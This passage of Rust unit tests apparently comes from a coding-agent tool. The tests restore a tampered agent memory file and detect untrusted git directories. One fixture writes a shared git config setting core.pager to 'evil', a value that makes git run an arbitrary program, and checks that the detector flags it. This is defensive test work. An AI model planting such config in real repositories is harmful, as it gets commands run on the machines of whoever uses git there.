        std::fs::write(root.join(".gg/memory/MEMORY.md"), "later").unwrap();
        let kept = Kept::look(root, Some(kept)).unwrap();
        // The command's change, then the sweep.
        std::fs::write(root.join(".gg/memory/MEMORY.md"), "THEIRS").unwrap();
        let lines = kept.sweep(root);
        assert!(lines[0].contains("put back"), "{lines:?}");
        assert_eq!(
            std::fs::read_to_string(root.join(".gg/memory/MEMORY.md")).unwrap(),
            "later"
        );
        // Unchanged since: taken from the copy, and still what is there.
        let kept = Kept::look(root, Some(kept)).unwrap();
        assert!(kept.sweep(root).is_empty());
    }

    #[test]
    fn git_directories_split_by_commondir_are_git_directories() {
        let tmp = tempfile::tempdir().unwrap();
        let docs = tmp.path().join("docs");
        std::fs::create_dir_all(docs.join("_c/objects")).unwrap();
        std::fs::create_dir_all(docs.join("_c/refs")).unwrap();
        assert!(!is_git_like(&docs));
        std::fs::write(docs.join("HEAD"), "ref: refs/heads/main\n").unwrap();
        assert!(!is_git_like(&docs));
        std::fs::write(docs.join("commondir"), "_c\n").unwrap();
        assert!(is_git_like(&docs));
        // Judged by what git obeys there: the shared directory's config.
        std::fs::write(docs.join("_c/config"), "[core]\n\tpager = evil\n").unwrap();
        let why = untrusted_git_dir(&docs, None, 0).unwrap();
        assert!(why.contains("core.pager"), "{why}");
        std::fs::write(docs.join("_c/config"), "[core]\n\tbare = true\n").unwrap();
        assert!(untrusted_git_dir(&docs, None, 0).is_some());
    }
}
